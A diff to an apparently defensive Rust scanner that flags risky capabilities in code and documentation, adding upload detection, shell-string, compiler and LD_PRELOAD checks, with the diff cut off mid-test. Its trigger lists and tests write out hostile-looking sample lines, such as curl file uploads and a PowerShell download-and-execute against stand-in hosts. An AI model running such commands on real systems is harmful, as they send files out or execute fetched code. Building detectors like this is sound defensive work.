@@ -13,6 +13,7 @@
 pub enum HitKind {
     ExternalReference,
     Download,
+    Upload,
     CredentialTouch,
     RiskyCommand,
 }
@@ -36,6 +37,8 @@ struct Tok {
     pipe_before: bool,
     /// `<(` (process substitution) directly precedes this token.
     subst_before: bool,
+    /// A command separator (`;`, `&&`, `||`, `&`) precedes this token.
+    sep_before: bool,
 }
 
 const DELIMS: [bool; 256] = {
@@ -116,6 +119,38 @@ const TRIGGERS: &[&str] = &[
     "yum",
     "dnf",
     "bun",
+    // Uploads and shell strings (`files=`, `shell=True`, `os.system`, `execSync`).
+    "files",
+    "data",
+    "content",
+    "upload_",
+    "put_object",
+    "publish",
+    "twine",
+    "gem push",
+    "docker push",
+    "podman push",
+    "gh release",
+    "shell",
+    "os.system",
+    "os.popen",
+    "getoutput",
+    "exec",
+    // Native code.
+    "gcc",
+    "g++",
+    "clang",
+    "nvcc",
+    "tcc",
+    "rustc",
+    "zig cc",
+    "cc -",
+    "c++ -",
+    "build_ext",
+    "node-gyp",
+    "cmake",
+    "ld_preload",
+    "dyld_insert",
     // Risky commands.
     "sudo",
     "doas",
@@ -186,12 +221,16 @@ fn tokenize(line: &[u8], out: &mut Vec<Tok>) {
     let mut i = 0;
     let mut pipe = false;
     let mut subst = false;
+    let mut sep = false;
     while i < line.len() {
         let b = line[i];
         if is_delim(b) {
             if b == b'|' {
                 let double = line.get(i + 1) == Some(&b'|') || (i > 0 && line[i - 1] == b'|');
                 pipe = !double;
+                sep |= double;
+            } else if b == b';' || b == b'&' {
+                sep = true;
             } else if b == b'<' && line.get(i + 1) == Some(&b'(') {
                 subst = true;
             }
@@ -207,9 +246,11 @@ fn tokenize(line: &[u8], out: &mut Vec<Tok>) {
             e: i.min(s + MAX_TOKEN),
             pipe_before: pipe,
             subst_before: subst,
+            sep_before: sep,
         });
         pipe = false;
         subst = false;
+        sep = false;
     }
 }
 
@@ -319,33 +360,101 @@ fn subj(b: &[u8]) -> String {
     crate::reason::display_name(b)
 }
 
+/// How a line is read: as something a shell or interpreter would run, as sentences, or as data.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Mode {
+    /// A script or a code block: command words count.
+    Code,
+    /// Markdown or plain text: only what sits in inline code spans is read as a command; URLs,
+    /// credential paths and secret names count anywhere.
+    Prose,
+    /// Schemas, configuration, other text: never read as commands.
+    Data,
+}
+
 /// Reusable scanner state (buffers), one per review.
 #[derive(Default)]
 pub struct Scanner {
     lower: Vec<u8>,
     toks: Vec<Tok>,
+    /// The file is JavaScript or TypeScript: `exec(` is `child_process.exec`, a shell command.
+    pub js: bool,
 }
 
 impl Scanner {
-    /// Scan one line (without its newline) and report every hit.
+    /// Scan one line of code (without its newline) and report every hit.
     pub fn line(&mut self, line: &[u8], out: &mut Vec<Hit>) {
+        self.scan(line, Mode::Code, b"", out);
+    }
+
+    /// Scan one line read in `mode`. `before` is up to a few hundred bytes preceding the line in
+    /// the same file (for constructs written over several lines: an argument list `"git",` /
+    /// `"clone",`, a `requests.post(` whose `files=` comes later).
+    pub fn scan(&mut self, line: &[u8], mode: Mode, before: &[u8], out: &mut Vec<Hit>) {
         out.clear();
+        match mode {
+            Mode::Code => self.inner(line, 0, true, before, out),
+            Mode::Data => self.inner(line, 0, false, b"", out),
+            Mode::Prose => {
+                self.inner(line, 0, false, b"", out);
+                let mut spans = Vec::new();
+                code_spans(line, &mut spans);
+                let mut more = Vec::new();
+                for (s, e) in spans {
+                    // A single word in backticks (`curl`, `bash -c` aside) names a tool; a
+                    // command has arguments.
+                    if !line[s..e].trim_ascii().contains(&b' ') {
+                        continue;
+                    }
+                    more.clear();
+                    self.inner(&line[s..e], s, true, b"", &mut more);
+                    out.extend(more.drain(..).filter(|h| {
+                        matches!(
+                            h.kind,
+                            HitKind::Download | HitKind::Upload | HitKind::RiskyCommand
+                        )
+                    }));
+                }
+            }
+        }
+    }
+
+    fn inner(&mut self, line: &[u8], at: usize, commands: bool, before: &[u8], out: &mut Vec<Hit>) {
         self.lower.clear();
         self.lower.extend(line.iter().map(u8::to_ascii_lowercase));
         tokenize(line, &mut self.toks);
         let lower = &self.lower[..];
         let toks = &self.toks[..];
         let tok = |i: usize| -> &[u8] { toks.get(i).map_or(&[][..], |t| &lower[t.s..t.e]) };
+        let push = |out: &mut Vec<Hit>, kind, col: usize, subject: String| {
+            out.push(Hit {
+                kind,
+                col: at + col,
+                subject,
+            });
+        };
 
         let mut fetch_at: Option<usize> = None;
         let mut eval_at: Option<usize> = None;
         let mut subst_fetch: Option<usize> = None;
+        let mut post_at: Option<usize> = None;
+        // `sh -c`: evaluates fetched text only when the fetch is a `$(...)` inside its argument;
+        // `bash -c "curl -X POST ..."` merely runs curl.
+        let mut shc_at: Option<usize> = None;
         let mut net_cmd = false;
         for (i, t) in toks.iter().enumerate() {
             let lt = &lower[t.s..t.e];
             let ot = &line[t.s..t.e];
-            if t.pipe_before {
+            if t.pipe_before || t.sep_before {
                 net_cmd = false;
+            }
+            if t.sep_before {
+                // `source x && curl y`: the eval and the fetch are separate commands.
+                fetch_at = None;
+                eval_at = None;
+                subst_fetch = None;
+            }
+            if t.pipe_before && commands {
                 // `curl ... | sh`: a fetcher earlier on the line, a shell or interpreter after a pipe.
                 // Skip a few wrappers and flags (`| sudo -E bash`); bounded, so a line of
                 // pipes and flags stays linear.
@@ -357,144 +466,483 @@ impl Scanner {
                     j += 1;
                 }
                 if fetch_at.is_some() && one_of(base(tok(j)), SHELLS) {
-                    out.push(Hit {
-                        kind: HitKind::RiskyCommand,
-                        col: t.s,
-                        subject: "download piped to a shell".into(),
-                    });
+                    push(
+                        out,
+                        HitKind::RiskyCommand,
+                        t.s,
+                        "download piped to a shell".into(),
+                    );
                 }
             }
 
             // URLs with a scheme and a host.
             if let Some(p) = memchr::memmem::find(lt, b"://") {
-                url_hit(lt, p, t.s, out);
+                url_hit(lt, p, at + t.s, out);
             } else if let Some(host) = scp_host(lt) {
-                out.push(Hit {
-                    kind: HitKind::ExternalReference,
-                    col: t.s,
-                    subject: subj(host),
-                });
-            } else if net_cmd && !lt.starts_with(b"-") {
-                let first = lt.split(|&b| b == b'/').next().unwrap_or(lt);
-                if let Some(host) = host_like(first, false) {
-                    out.push(Hit {
-                        kind: HitKind::ExternalReference,
-                        col: t.s,
-                        subject: subj(host),
-                    });
+                if !is_placeholder(host) {
+                    push(out, HitKind::ExternalReference, t.s, subj(host));
                 }
-            } else if lt.contains(&b'.') && !lt.contains(&b'@') {
+            } else if net_cmd && !lt.starts_with(b"-") && !lt.starts_with(b"@") {
                 let first = lt.split(|&b| b == b'/').next().unwrap_or(lt);
-                if let Some(host) = host_like(first, true) {
-                    out.push(Hit {
-                        kind: HitKind::ExternalReference,
-                        col: t.s,
-                        subject: subj(host),
-                    });
+                if let Some(host) = host_like(first, false).filter(|h| !is_placeholder(h)) {
+                    push(out, HitKind::ExternalReference, t.s, subj(host));
+                }
+            } else if lt.contains(&b'.')
+                && !lt.contains(&b'@')
+                // `Microsoft.Extensions.AI`, `System.IO`: identifiers, not host names.
+                && !ot.iter().any(u8::is_ascii_uppercase)
+            {
+                let first = lt.split(|&b| b == b'/').next().unwrap_or(lt);
+                let path = &lt[first.len()..];
+                if let Some(host) =
+                    host_like(first, true).filter(|h| !is_placeholder(h) && !is_identifier(h, path))
+                {
+                    push(out, HitKind::ExternalReference, t.s, subj(host));
                 }
             }
 
-            // Credential files and directories, component-wise.
-            if lt.contains(&b'.') || lt.contains(&b'_') || lt.contains(&b'/') {
+            // Credential files and directories, component-wise; a name given to an exclusion
+            // flag (`--exclude='.env'`) is kept away from, not touched.
+            let excluded = i > 0 && {
+                let p = tok(i - 1);
+                p.starts_with(b"--exclude") || p.starts_with(b"--ignore") || p == b"!"
+            };
+            if !excluded && (lt.contains(&b'.') || lt.contains(&b'_') || lt.contains(&b'/')) {
+                let n = out.len();
                 credential_paths(lt, t.s, out);
+                for h in &mut out[n..] {
+                    h.col += at;
+                }
             }
             if lt == b"dotenv" || lt.ends_with(b"load_dotenv") {
-                out.push(Hit {
-                    kind: HitKind::CredentialTouch,
-                    col: t.s,
-                    subject: ".env".into(),
-                });
+                push(out, HitKind::CredentialTouch, t.s, ".env".into());
             }
             if ot.contains(&b'_') {
+                let n = out.len();
                 secret_vars(ot, t.s, out);
+                for h in &mut out[n..] {
+                    h.col += at;
+                }
+            }
+            if !commands {
+                continue;
             }
 
-            // Command words.
+            // Command words. Commands are lower case (`cURL` in a sentence is the project's
+            // name); PowerShell's are not, and PowerShell does not care.
             let w = base(lt);
+            if ot.iter().any(u8::is_ascii_uppercase)
+                && !w.starts_with(b"invoke-")
+                && !matches!(w, b"iex" | b"iwr" | b"irm")
+            {
+                if let Some(what) =
+                    shell_string(w, tok(i + 1), line.get(t.e).copied(), self.js, line, t.e)
+                {
+                    push(out, HitKind::RiskyCommand, t.s, what.into());
+                }
+                if preloads(ot) {
+                    push(out, HitKind::RiskyCommand, t.s, "LD_PRELOAD".into());
+                }
+                continue;
+            }
+            let next_char = line.get(t.e).copied();
             if one_of(w, NET_COMMANDS) {
                 net_cmd = true;
             }
             if one_of(w, FETCHERS) {
-                fetch_at.get_or_insert(i);
-                if t.subst_before {
-                    subst_fetch = Some(i);
+                if let Some(flag) = upload_flag(toks, line, i) {
+                    push(out, HitKind::Upload, t.s, format!("{} {flag}", subj(w)));
+                } else {
+                    fetch_at.get_or_insert(i);
+                    if t.subst_before {
+                        subst_fetch = Some(i);
+                    }
+                    push(out, HitKind::Download, t.s, subj(w));
                 }
-                out.push(Hit {
-                    kind: HitKind::Download,
-                    col: t.s,
-                    subject: subj(w),
-                });
             } else if w.ends_with(b"urlopen")
                 || w.ends_with(b"urlretrieve")
-                || one_of(
-                    w,
-                    &[
-                        b"requests.get",
-                        b"requests.post",
-                        b"httpx.get",
-                        b"axios.get",
-                    ],
-                )
+                || one_of(w, &[b"requests.get", b"httpx.get", b"axios.get"])
             {
                 fetch_at.get_or_insert(i);
-                out.push(Hit {
-                    kind: HitKind::Download,
-                    col: t.s,
-                    subject: subj(w),
-                });
+                push(out, HitKind::Download, t.s, subj(w));
+            } else if is_http_send(w) {
+                post_at.get_or_insert(i);
+            }
+            if w == b"files" && post_at.is_some() && next_is_assign(line, t.e) {
+                push(out, HitKind::Upload, t.s, "HTTP request with files=".into());
+                post_at = None;
+            }
+            // A body read from a file: `data=open(p, "rb")`, or `data=fh` where `fh` was opened
+            // just before (`with open(p, "rb") as fh:`).
+            if matches!(w, b"data" | b"content")
+                && post_at.is_some()
+                && next_is_assign(line, t.e)
+                && opened_file(tok(i + 1), before)
+            {
+                push(
+                    out,
+                    HitKind::Upload,
+                    t.s,
+                    "HTTP request with a file body".into(),
+                );
+                post_at = None;
+            }
+            // Object-storage uploads: boto3, Google Cloud Storage, Azure Blob.
+            if line.get(t.e) == Some(&b'(')
+                && [
+                    &b".upload_file"[..],
+                    b".upload_fileobj",
+                    b".put_object",
+                    b".upload_from_filename",
+                    b".upload_from_file",
+                    b".upload_blob",
+                ]
+                .iter()
+                .any(|m| w.ends_with(m))
+            {
+                push(out, HitKind::Upload, t.s, "object storage upload".into());
             }
             if let Some(what) = installer(w, tok(i + 1), tok(i + 2)) {
-                out.push(Hit {
-                    kind: HitKind::Download,
-                    col: t.s,
-                    subject: what.into(),
-                });
+                push(out, HitKind::Download, t.s, what.into());
+            }
+            if let Some(what) = publisher(w, tok(i + 1), tok(i + 2)) {
+                push(out, HitKind::Upload, t.s, what.into());
             }
             if one_of(w, EVALS) && (w != b"." || i == 0) {
                 eval_at.get_or_insert(i);
             }
             if one_of(w, &[b"sh", b"bash", b"zsh"]) && tok(i + 1) == b"-c" {
-                eval_at.get_or_insert(i);
+                shc_at.get_or_insert(i);
+            }
+            if let Some(what) = shell_string(w, tok(i + 1), next_char, self.js, line, t.e) {
+                push(out, HitKind::RiskyCommand, t.s, what.into());
+            }
+            if is_compile(w, toks, lower, i) {
+                push(out, HitKind::RiskyCommand, t.s, "native compilation".into());
+            }
+            if preloads(ot) {
+                push(out, HitKind::RiskyCommand, t.s, "LD_PRELOAD".into());
             }
             match w {
-                b"sudo" | b"doas" => out.push(Hit {
-                    kind: HitKind::RiskyCommand,
-                    col: t.s,
-                    subject: "sudo".into(),
-                }),
+                b"sudo" | b"doas" => push(out, HitKind::RiskyCommand, t.s, "sudo".into()),
                 b"rm" if rm_recursive_force(toks, lower, i) => {
-                    out.push(Hit {
-                        kind: HitKind::RiskyCommand,
-                        col: t.s,
-                        subject: "rm -rf".into(),
-                    });
+                    push(out, HitKind::RiskyCommand, t.s, "rm -rf".into());
                 }
                 b"chmod" if chmod_world(toks, lower, i) => {
-                    out.push(Hit {
-                        kind: HitKind::RiskyCommand,
-                        col: t.s,
-                        subject: "chmod 777".into(),
-                    });
+                    push(out, HitKind::RiskyCommand, t.s, "chmod 777".into());
                 }
                 _ => {}
             }
         }
-        if let (Some(f), Some(e)) = (fetch_at, eval_at) {
-            let col = toks.get(e.min(f)).map_or(0, |t| t.s);
-            out.push(Hit {
-                kind: HitKind::RiskyCommand,
-                col,
-                subject: "eval of downloaded text".into(),
-            });
-        } else if let (Some(f), None) = (subst_fetch, eval_at) {
-            let col = toks.get(f).map_or(0, |t| t.s);
-            out.push(Hit {
-                kind: HitKind::RiskyCommand,
-                col,
-                subject: "eval of downloaded text".into(),
-            });
+        if !commands {
+            return;
+        }
+        // Evaluation of fetched text: the eval word comes first and the fetch is its argument
+        // (`eval "$(curl ..)"`, `exec(urlopen(u).read())`), or the fetch is a process
+        // substitution (`bash <(curl ..)`).
+        let shc_eval = match (shc_at, fetch_at) {
+            (Some(c), Some(f)) if c < f => toks
+                .get(f)
+                .is_some_and(|t| t.s >= 2 && &line[t.s - 2..t.s] == b"$("),
+            _ => false,
+        };
+        if shc_eval {
+            eval_at = eval_at.or(shc_at);
+        }
+        match (fetch_at, eval_at) {
+            (Some(f), Some(e)) if e < f => {
+                let col = toks.get(e).map_or(0, |t| t.s);
+                push(
+                    out,
+                    HitKind::RiskyCommand,
+                    col,
+                    "eval of downloaded text".into(),
+                );
+            }
+            _ => {
+                if let Some(f) = subst_fetch {
+                    let col = toks.get(f).map_or(0, |t| t.s);
+                    push(
+                        out,
+                        HitKind::RiskyCommand,
+                        col,
+                        "eval of downloaded text".into(),
+                    );
+                }
+            }
+        }
+        // Constructs spread over lines.
+        let first = toks.first().map(|t| &lower[t.s..t.e]);
+        if first == Some(&b"clone"[..]) && last_word(prev_line(before)) == b"git" {
+            push(out, HitKind::Download, 0, "git clone".into());
+        }
+        if post_at.is_none()
+            && toks
+                .iter()
+                .any(|t| &lower[t.s..t.e] == b"files" && next_is_assign(line, t.e))
+            && recent_http_send(before)
+        {
+            let col = toks
+                .iter()
+                .find(|t| &lower[t.s..t.e] == b"files")
+                .map_or(0, |t| t.s);
+            push(out, HitKind::Upload, col, "HTTP request with files=".into());
         }
     }
+}
+
+/// Inline code spans of a Markdown line: byte ranges inside matching backtick runs.
+fn code_spans(line: &[u8], out: &mut Vec<(usize, usize)>) {
+    let mut i = 0;
+    while let Some(p) = memchr::memchr(b'`', &line[i..]) {
+        let s = i + p;
+        let run = line[s..].iter().take_while(|&&b| b == b'`').count();
+        let body = s + run;
+        // The closing run has the same length; bounded search, one pass per opening.
+        let mut j = body;
+        let mut closed = None;
+        while let Some(q) = memchr::memchr(b'`', &line[j..]) {
+            let c = j + q;
+            let n = line[c..].iter().take_while(|&&b| b == b'`').count();
+            if n == run {
+                closed = Some(c);
+                break;
+            }
+            j = c + n;
+        }
+        match closed {
+            Some(c) => {
+                out.push((body, c));
+                i = c + run;
+            }
+            None => break,
+        }
+    }
+}
+
+/// `LD_PRELOAD` / `DYLD_INSERT_LIBRARIES` in a token (upper case: only the variable counts).
+fn preloads(ot: &[u8]) -> bool {
+    static F: std::sync::OnceLock<[memchr::memmem::Finder<'static>; 2]> =
+        std::sync::OnceLock::new();
+    let [a, b] = F.get_or_init(|| {
+        [
+            memchr::memmem::Finder::new(b"LD_PRELOAD"),
+            memchr::memmem::Finder::new(b"DYLD_INSERT_LIBRARIES"),
+        ]
+    });
+    ot.len() >= 10
+        && memchr::memchr(b'_', ot).is_some()
+        && (a.find(ot).is_some() || b.find(ot).is_some())
+}
+
+/// The curl flag that sends a local file or data (`-F f=@x`, `-T x`, `--data-binary @x`).
+fn upload_flag(toks: &[Tok], line: &[u8], i: usize) -> Option<&'static str> {
+    let t = |k: usize| toks.get(k).map_or(&[][..], |t| &line[t.s..t.e]);
+    for k in i + 1..(i + 32).min(toks.len()) {
+        let tk = &toks[k];
+        if tk.pipe_before || tk.sep_before {
+            break;
+        }
+        let a = t(k);
+        if one_of(base(a), FETCHERS) {
+            break; // the next command's flags are its own
+        }
+        // `-F file=@x` tokenises as `-F`, `file`, `@x`; `-F @x` too.
+        let at_soon = (k + 1..(k + 4).min(toks.len())).any(|m| t(m).starts_with(b"@"));
+        match a {
+            b"-T" | b"--upload-file" => return Some("-T"),
+            b"-F" | b"--form" if at_soon => return Some("-F @file"),
+            b"--post-file" | b"--body-file" => return Some("--post-file"),
+            // `@-` is standard input: a file only when something is piped in, not a heredoc.
+            b"-d" | b"--data" | b"--data-binary" | b"--data-raw" | b"--data-urlencode"
+            | b"--json"
+                if t(k + 1).starts_with(b"@")
+                    && (t(k + 1) != b"@-"
+                        || toks[..i].iter().any(|x| x.pipe_before)
+                        || toks[i].pipe_before) =>
+            {
+                return Some("--data @file");
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// `requests.post`, `httpx.put`, `session.post`, `client.patch`, ... (sends a body).
+fn is_http_send(w: &[u8]) -> bool {
+    let Some(dot) = w.iter().rposition(|&b| b == b'.') else {
+        return false;
+    };
+    matches!(&w[dot + 1..], b"post" | b"put" | b"patch")
+        && matches!(
+            &w[..dot],
+            b"requests" | b"httpx" | b"session" | b"s" | b"client" | b"http" | b"axios"
+        )
+}
+
+/// `open` itself, or a name bound by `open(...) as NAME` in the lines just before.
+fn opened_file(value: &[u8], before: &[u8]) -> bool {
+    if value == b"open" {
+        return true;
+    }
+    if value.is_empty() || value.len() > 64 {
+        return false;
+    }
+    before.split(|&b| b == b'\n').rev().take(8).any(|l| {
+        let l = l.trim_ascii_end();
+        let l = l.strip_suffix(b":").unwrap_or(l).trim_ascii_end();
+        memchr::memmem::find(l, b"open(").is_some()
+            && l.len() > value.len() + 3
+            && l.ends_with(value)
+            && l[..l.len() - value.len()]
+                .trim_ascii_end()
+                .ends_with(b" as")
+    })
+}
+
+/// `=` (Python keyword argument) or `:` (a JS object key) right after the token.
+fn next_is_assign(line: &[u8], end: usize) -> bool {
+    let rest = &line[end.min(line.len())..];
+    let rest = rest
+        .iter()
+        .skip_while(|&&b| b == b' ' || b == b'"' || b == b'\'');
+    matches!(rest.clone().next(), Some(b'=' | b':')) && rest.clone().nth(1) != Some(&b'=')
+}
+
+/// A command handed to a shell as one string: `shell=True`, `os.system`, `exec("...")`.
+fn shell_string(
+    w: &[u8],
+    next: &[u8],
+    next_char: Option<u8>,
+    js: bool,
+    line: &[u8],
+    end: usize,
+) -> Option<&'static str> {
+    match w {
+        b"shell" | b"shell:"
+            if next == b"true" && (w == b"shell:" || next_is_assign(line, end)) =>
+        {
+            Some("shell=True")
+        }
+        b"os.system"
+        | b"os.popen"
+        | b"subprocess.getoutput"
+        | b"subprocess.getstatusoutput"
+        | b"commands.getoutput"
+        | b"shell_exec"
+            if next_char == Some(b'(') =>
+        {
+            Some("os.system")
+        }
+        // `regex.exec(text)` is a match, not a process: only `exec` itself (as destructured
+        // from child_process) or called on the module counts.
+        _ if (w.ends_with(b"execsync")
+            || (js && (w == b"exec" || w == b"cp.exec" || w.ends_with(b"child_process.exec"))))
+            && next_char == Some(b'(') =>
+        {
+            Some("exec of a command string")
+        }
+        _ => None,
+    }
+}
+
+/// A compiler run: `gcc`, `clang`, `cc -O2`, `nvcc`, `python setup.py build_ext`, `node-gyp`.
+fn is_compile(w: &[u8], toks: &[Tok], lower: &[u8], i: usize) -> bool {
+    let next = toks.get(i + 1).map_or(&[][..], |t| &lower[t.s..t.e]);
+    match w {
+        b"gcc" | b"g++" | b"clang" | b"clang++" | b"nvcc" | b"tcc" | b"rustc" | b"zig" => {
+            w != b"zig" || next == b"cc"
+        }
+        b"cc" | b"c++" => next.starts_with(b"-"),
+        b"setup.py" => next == b"build_ext",
+        b"node-gyp" => matches!(next, b"rebuild" | b"build"),
+        b"cmake" => next == b"--build",
+        _ => false,
+    }
+}
+
+/// The last non-blank line of `before`.
+fn prev_line(before: &[u8]) -> &[u8] {
+    before
+        .split(|&b| b == b'\n')
+        .rev()
+        .find(|l| !l.trim_ascii().is_empty())
+        .unwrap_or(b"")
+}
+
+/// The last word of a line, lower-cased comparison ready (quotes, commas, brackets dropped).
+fn last_word(line: &[u8]) -> &[u8] {
+    let l = line.trim_ascii_end();
+    let l = l
+        .strip_suffix(b",")
+        .or_else(|| l.strip_suffix(b"\\"))
+        .unwrap_or(l)
+        .trim_ascii_end();
+    let l = l
+        .strip_suffix(b"\"")
+        .or_else(|| l.strip_suffix(b"'"))
+        .unwrap_or(l);
+    let start = l.iter().rposition(|&b| is_delim(b)).map_or(0, |p| p + 1);
+    &l[start..]
+}
+
+/// An HTTP send call in the few lines before (its arguments continue on this line).
+fn recent_http_send(before: &[u8]) -> bool {
+    before.split(|&b| b == b'\n').rev().take(6).any(|l| {
+        let lower: Vec<u8> = l.iter().map(u8::to_ascii_lowercase).collect();
+        lower.split(|&b| is_delim(b)).any(|w| is_http_send(base(w)))
+    })
+}
+
+/// Hosts that name no third party: documentation placeholders (RFC 2606, RFC 6761) and the
+/// machine itself. Reporting them as a capability would teach reviewers to skim.
+fn is_placeholder(host: &[u8]) -> bool {
+    let h = host.strip_suffix(b".").unwrap_or(host);
+    let under = |d: &[u8]| h == d || (h.ends_with(d) && h[..h.len() - d.len()].ends_with(b"."));
+    under(b"example.com")
+        || under(b"example.net")
+        || under(b"example.org")
+        || under(b"localhost")
+        || [&b".example"[..], b".test", b".invalid", b".localhost"]
+            .iter()
+            .any(|s| h.ends_with(s))
+        || h == b"example"
+        || h.starts_with(b"127.")
+        || h == b"0.0.0.0"
+        || h == b"[::1]"
+}
+
+/// URLs that identify rather than locate: XML namespace and schema authorities, and licence
+/// texts. Nothing fetches them; counting them as hosts buried real ones.
+fn is_identifier(host: &[u8], path: &[u8]) -> bool {
+    const NAMESPACE_AUTHORITIES: &[&[u8]] = &[
+        b"schemas.openxmlformats.org",
+        b"schemas.microsoft.com",
+        b"schemas.xmlsoap.org",
+        b"www.w3.org",
+        b"w3.org",
+        b"purl.org",
+        b"purl.oclc.org",
+        b"ns.adobe.com",
+        b"xmlns.com",
+        b"docs.oasis-open.org",
+    ];
+    let licence_path = path.starts_with(b"/licenses") || path.starts_with(b"/licences");
+    NAMESPACE_AUTHORITIES.contains(&host)
+        || (licence_path
+            && matches!(
+                host,
+                b"www.apache.org"
+                    | b"apache.org"
+                    | b"opensource.org"
+                    | b"www.opensource.org"
+                    | b"www.gnu.org"
+                    | b"gnu.org"
+                    | b"creativecommons.org"
+            ))
+        || host == b"spdx.org"
+        || host == b"choosealicense.com"
 }
 
 /// `scheme://[user[:pass]@]host[:port]/...` inside token `t`, `p` the offset of `://`.
@@ -539,7 +987,17 @@ fn url_hit(t: &[u8], p: usize, col: usize, out: &mut Vec<Hit>) {
         &hostport[..end]
     };
     let host = host.strip_suffix(b".").unwrap_or(host);
-    let valid = !host.is_empty()
+    if is_placeholder(host) || is_identifier(host, &rest[auth_end..]) {
+        return;
+    }
+    // A host has a dot (or is an address literal): `collection://tasks-db`, `config://settings`
+    // and `http://host:port` are names of something else, or templates.
+    let dotted = host.contains(&b'.') || host.starts_with(b"[");
+    let valid = dotted
+        && host
+            .last()
+            .is_some_and(|b| !b.is_ascii_digit() || host_like(host, false).is_some())
+        && !host.is_empty()
         && host.iter().all(|&b| {
             b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'[' | b']' | b':')
         })
@@ -704,6 +1162,19 @@ fn installer(w: &[u8], next: &[u8], next2: &[u8]) -> Option<&'static str> {
     })
 }
 
+/// Publishing: the package's bytes leave for a registry or a release page.
+fn publisher(w: &[u8], next: &[u8], next2: &[u8]) -> Option<&'static str> {
+    Some(match (w, next) {
+        (b"npm" | b"pnpm" | b"yarn", b"publish") => "npm publish",
+        (b"cargo", b"publish") => "cargo publish",
+        (b"twine", b"upload") => "twine upload",
+        (b"gem", b"push") => "gem push",
+        (b"docker" | b"podman", b"push") => "docker push",
+        (b"gh", b"release") if next2 == b"upload" || next2 == b"create" => "gh release upload",
+        _ => return None,
+    })
+}
+
 fn rm_recursive_force(toks: &[Tok], lower: &[u8], i: usize) -> bool {
     let (mut r, mut f) = (false, false);
     // Flags come first and are few: looking further would make `rm rm rm ...` quadratic.
@@ -819,11 +1290,15 @@ mod tests {
     #[test]
     fn urls_and_hosts() {
         use HitKind::ExternalReference as X;
-        assert!(has("see https://Example.COM:8443/a?b=c", X, "example.com"));
         assert!(has(
-            "[docs](http://docs.example.org/x)",
+            "see https://Docs.PdfHost.NET:8443/a?b=c",
             X,
-            "docs.example.org"
+            "docs.pdfhost.net"
+        ));
+        assert!(has(
+            "[docs](http://docs.pdfhost.org/x)",
+            X,
+            "docs.pdfhost.org"
         ));
         assert!(has(
             "git clone git@github.com:org/repo.git",
@@ -831,9 +1306,9 @@ mod tests {
             "github.com"
         ));
         assert!(has(
-            "ssh deploy@build.internal.example",
+            "ssh deploy@build.internal.pdfhost.net",
             X,
-            "build.internal.example"
+            "build.internal.pdfhost.net"
         ));
         assert!(has("curl -fsSL 10.0.0.7:8080/x", X, "10.0.0.7"));
         assert!(has(
@@ -845,8 +1320,9 @@ mod tests {
         assert!(hits("edit setup.py and README.md, then main.rs").is_empty());
         assert!(hits("curl -o out.json").iter().all(|(k, _)| *k != X));
         assert!(hits("https:// and {base}://").is_empty());
+        assert!(hits("see https://Example.COM:8443/a and http://localhost:3000").is_empty());
         assert!(has(
-            "https://user:pw@h.example.com/",
+            "https://user:pw@h.pdfhost.net/",
             HitKind::CredentialTouch,
             "credentials in a URL"
         ));
@@ -930,6 +1406,173 @@ mod tests {
         assert!(hits("pseudo code; a || b").is_empty());
     }
 
+    fn hits_in(line: &str, mode: Mode, before: &str) -> Vec<(HitKind, String)> {
+        let mut s = Scanner::default();
+        let mut out = Vec::new();
+        s.scan(line.as_bytes(), mode, before.as_bytes(), &mut out);
+        out.into_iter().map(|h| (h.kind, h.subject)).collect()
+    }
+
+    #[test]
+    fn uploads() {
+        use HitKind::Upload as U;
+        let up = |l: &str| hits(l).iter().any(|(k, _)| *k == U);
+        assert!(up("curl -F file=@report.pdf https://up.pdfhost.net/api"));
+        assert!(up("curl -F \"file=@$OUT\" $URL"));
+        assert!(up("curl -T dump.tar.gz https://up.pdfhost.net/"));
+        assert!(up("curl --data-binary @body.json https://api.pdfhost.net"));
+        assert!(up("r = requests.post(url, files={'file': fh})"));
+        assert!(!up("curl -f -o out.pdf https://cdn.pdfhost.net/x.pdf"));
+        assert!(!up("curl -d '{\"a\":1}' https://api.pdfhost.net"));
+        assert!(
+            !hits("curl -F file=@x https://a.pdfhost.net")
+                .iter()
+                .any(|(k, _)| *k == HitKind::Download),
+            "an upload is not a download"
+        );
+        assert!(up("npm publish --access public"));
+        assert!(up("twine upload dist/*"));
+        assert!(up("s3.upload_file(path, bucket, key)"));
+        assert!(up("requests.put(url, data=open(p, 'rb'))"));
+        let fh = hits_in(
+            "    requests.put(url, data=fh)",
+            Mode::Code,
+            "with open(p, 'rb') as fh:\n",
+        );
+        assert!(fh.iter().any(|(k, _)| *k == U), "{fh:?}");
+        assert!(!up("requests.post(url, data=payload)"));
+        let multi = hits_in(
+            "    files={'file': fh},",
+            Mode::Code,
+            "r = requests.post(\n    url,\n",
+        );
+        assert!(multi.iter().any(|(k, _)| *k == U), "{multi:?}");
+    }
+
+    #[test]
+    fn shell_strings_compilers_preload() {
+        use HitKind::RiskyCommand as R;
+        assert!(has("subprocess.run(cmd, shell=True)", R, "shell=True"));
+        assert!(has("spawn(cmd, { shell: true })", R, "shell=True"));
+        assert!(has("os.system(f'convert {src} {dst}')", R, "os.system"));
+        assert!(has(
+            "execSync(`git log ${ref}`)",
+            R,
+            "exec of a command string"
+        ));
+        assert!(!has("exec(code)", R, "exec of a command string"));
+        let mut s = Scanner {
+            js: true,
+            ..Scanner::default()
+        };
+        let mut out = Vec::new();
+        s.line(b"exec(`rm ${f}`, cb)", &mut out);
+        assert!(out.iter().any(|h| h.subject == "exec of a command string"));
+        assert!(has(
+            "gcc -O2 -shared -o libfast.so fast.c",
+            R,
+            "native compilation"
+        ));
+        assert!(has("cc -c x.c", R, "native compilation"));
+        assert!(!has("cc = compute()", R, "native compilation"));
+        assert!(has(
+            "python setup.py build_ext --inplace",
+            R,
+            "native compilation"
+        ));
+        assert!(has("LD_PRELOAD=./hook.so ./run", R, "LD_PRELOAD"));
+        assert!(has("env['LD_PRELOAD'] = lib", R, "LD_PRELOAD"));
+    }
+
+    #[test]
+    fn cased_words_and_stdin() {
+        assert!(
+            hits("SDK code in Python/TS/cURL, see curl/examples.md")
+                .iter()
+                .all(|(k, _)| *k != HitKind::Download)
+        );
+        assert!(has(
+            "IEX (IWR https://x.pdfhost.net/a.ps1)",
+            HitKind::RiskyCommand,
+            "eval of downloaded text"
+        ));
+        assert!(
+            hits("curl -X POST https://api.pdfhost.net -d @- <<EOF")
+                .iter()
+                .all(|(k, _)| *k != HitKind::Upload)
+        );
+        assert!(has(
